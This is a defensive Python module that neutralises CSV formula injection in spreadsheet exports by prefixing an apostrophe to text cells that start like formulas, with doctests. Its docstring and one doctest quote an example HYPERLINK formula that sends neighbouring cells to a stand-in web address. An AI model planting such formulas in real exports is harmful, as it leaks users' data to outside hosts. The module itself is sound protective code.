"""Cells that a spreadsheet will not run: OWASP's rule against CSV (formula) injection.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula; ``=HYPERLINK("https://…?"&B2&C2)`` in an
export could send the neighbouring cells to a web address when the file is opened. Such a cell
is written with a leading apostrophe, which spreadsheets show as text and hide. Plain numbers
(``-12``, ``+3.5``) are left as they are: they are not formulas.

>>> neutralise("=HYPERLINK(\\"https://x.example/?\\"&B2)")
'\\'=HYPERLINK("https://x.example/?"&B2)'
>>> neutralise("-12"), neutralise("Kim Chol-su"), neutralise(7)
('-12', 'Kim Chol-su', 7)
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from typing import Any

__all__ = ["FORMULA_STARTS", "neutralise", "neutralise_row", "neutralise_rows"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """``value`` made safe to open in a spreadsheet (only text that starts like a formula changes)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_row(row: Sequence[Any]) -> list[Any]:
    """Every cell of one row, neutralised."""
    return [neutralise(v) for v in row]


def neutralise_rows(rows: Sequence[Mapping[str, Any]]) -> list[dict[str, Any]]:
    """Every cell of rows given as dicts (column names too are cells), neutralised."""
    return [{neutralise(k): neutralise(v) for k, v in row.items()} for row in rows]
